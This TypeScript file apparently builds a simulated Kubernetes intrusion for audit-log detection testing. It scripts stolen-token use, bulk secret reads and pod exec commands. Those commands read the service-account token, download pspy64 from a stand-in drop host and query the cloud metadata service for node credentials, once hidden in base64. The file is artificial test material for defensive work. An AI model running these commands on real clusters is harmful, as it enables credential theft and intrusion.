import { type ApiRequest, execQuery } from './audit.ts';
import { type Micros, hour, minute, second } from './clock.ts';
import type { Cluster } from './cluster.ts';
import { releaseBot } from './harbour-life.ts';
import { type Identity, stolen } from './identity.ts';
import type { Intruder } from './intruder.ts';
import { type Target, core, grouped } from './target.ts';
import { type Pod, accountOf } from './workload.ts';

export const intruderHost = '198.51.100.77';
const secondHost = '198.51.100.78';
export const dropHost = '198.51.100.200';

/** The pipeline's session keys, taken from a build log. */
export function stolenPipeline(cluster: Cluster, midnight: Micros): Identity {
  return stolen(cluster.person('pipeline'), midnight + 2 * hour, intruderHost, 'python-requests/2.32.3');
}

/** 02:14: who am I, what may I do. */
export function lookAround(intruder: Intruder, by: Identity, midnight: Micros): void {
  const at = midnight + 2 * hour + 14 * minute + 7 * second;
  const review = {
    kind: 'SelfSubjectRulesReview',
    apiVersion: 'authorization.k8s.io/v1',
    metadata: {},
    spec: { namespace: 'payments' },
  };
  const rules = {
    resourceRules: [{ verbs: ['get', 'list'], apiGroups: [''], resources: ['secrets', 'pods'] }],
    incomplete: false,
  };
  intruder.askAll(
    'uses the pipeline’s stolen session from a new network with a new client and lists its own permissions',
    ['D011', 'D012', 'D013', 'D029'],
    [
      {
        by,
        at,
        verb: 'create',
        target: grouped('authorization.k8s.io', 'selfsubjectrulesreviews'),
        sent: review,
        answered: { ...review, status: rules },
      },
    ],
  );
  const closed: readonly Target[] = [
    core('nodes'),
    core('persistentvolumes'),
    grouped('rbac.authorization.k8s.io', 'clusterroles'),
    grouped('rbac.authorization.k8s.io', 'clusterrolebindings'),
    grouped('rbac.authorization.k8s.io', 'roles', 'kube-system'),
    grouped('rbac.authorization.k8s.io', 'rolebindings', 'kube-system'),
    grouped('certificates.k8s.io', 'certificatesigningrequests'),
    grouped('admissionregistration.k8s.io', 'validatingwebhookconfigurations'),
    grouped('apps', 'daemonsets', 'kube-system'),
    core('serviceaccounts', 'kube-system'),
    grouped('storage.k8s.io', 'csidrivers'),
    core('limitranges', 'kube-system'),
  ];
  const requests = closed.map((target, index): ApiRequest => ({
    by,
    at: at + (14 + 9 * index) * second,
    verb: 'list',
    target,
    code: 403,
  }));
  intruder.askAll('is refused twelve times while trying what the session may read', ['D016', 'D031'], requests);
}

/** 02:17: the secrets, first by name, then all of them. */
export function takeSecrets(intruder: Intruder, by: Identity, midnight: Micros): void {
  const at = midnight + 2 * hour + 17 * minute + 3 * second;
  const names = [
    ['payments', 'payments-db-credentials'],
    ['payments', 'payments-api-credentials'],
    ['shop', 'shop-db-credentials'],
    ['analytics', 'reports-db-credentials'],
    ['payments', 'release-bot-token'],
  ] as const;
  intruder.askAll(
    'reads five secrets by name that the pipeline never reads',
    ['D107', 'D108'],
    names.map(([namespace, name], index) => ({
      by,
      at: at + index * 38 * second,
      verb: 'get',
      target: core('secrets', namespace, name),
    })),
  );
  intruder.askAll(
    'lists the secrets of the whole cluster',
    ['D105'],
    [{ by, at: at + 267 * second, verb: 'list', target: core('secrets'), query: 'limit=500' }],
  );
}

/** 02:40: the long-lived token that was among the secrets opens a shell in the payments API. */
export function enterPod(intruder: Intruder, pod: Pod, midnight: Micros): void {
  const by = stolen(releaseBot, midnight, secondHost, 'Go-http-client/2.0');
  const from = midnight + 2 * hour + 40 * minute + 12 * second;
  intruder.askAll(
    'uses the token of payments/release-bot from a public address outside AWS and lists the pods',
    ['D008', 'D011'],
    [{ by, at: from, verb: 'list', target: core('pods', 'payments'), query: 'limit=500' }],
  );
  const metadata = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
  const hidden = Buffer.from(`curl -s ${metadata}HarbourNode`).toString('base64');
  const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  const commands: readonly [number, string, readonly string[], readonly string[]][] = [
    [739, 'runs a command in a payments pod: reads its service-account token', ['D041', 'D046'], ['cat', token]],
    [898, 'fetches pspy64 into the pod', ['D045'], ['sh', '-c', `curl -s http://${dropHost}/p -o /tmp/pspy64 && chmod +x /tmp/pspy64`]],
    [936, 'runs pspy64 in the pod', ['D048'], ['/tmp/pspy64', '-pf', '-i', '1000']],
    [1070, 'asks the instance metadata service for the node’s credentials', ['D047'], ['curl', '-s', metadata]],
    [1143, 'asks it again, the command hidden in base64', ['D047'], ['sh', '-c', `echo ${hidden}|base64 -d|sh`]],
  ];
  for (const [after, what, rows, command] of commands) {
    const target = core('pods', 'payments', pod.name, 'exec');
    const query = execQuery(command, pod.shape.container, false);
    intruder.askAll(what, rows, [
      {
        by,
        at: from + after * second,
        verb: 'get',
        target,
        query,
        code: 101,
        lasts: after === 936 ? 90 * second : 2 * second,
      },
    ]);
  }
}

/** 03:06: the pod's own token, far from the pod. */
export function useBoundToken(intruder: Intruder, pod: Pod, midnight: Micros): void {
  const by = stolen(accountOf(pod, ''), midnight + 2 * hour + 52 * minute, secondHost, 'curl/8.5.0');
  const at = midnight + 3 * hour + 6 * minute + 40 * second;
  intruder.askAll(
    'uses the pod’s bound token from the internet',
    ['D008', 'D009', 'D014', 'D155'],
    [
      { by, at, verb: 'list', target: core('pods', 'payments') },
      { by, at: at + 21 * second, verb: 'get', target: core('configmaps', 'payments', 'payments-api-config') },
      { by, at: at + 55 * second, verb: 'list', target: core('secrets', 'payments'), code: 403 },
    ],
  );
}
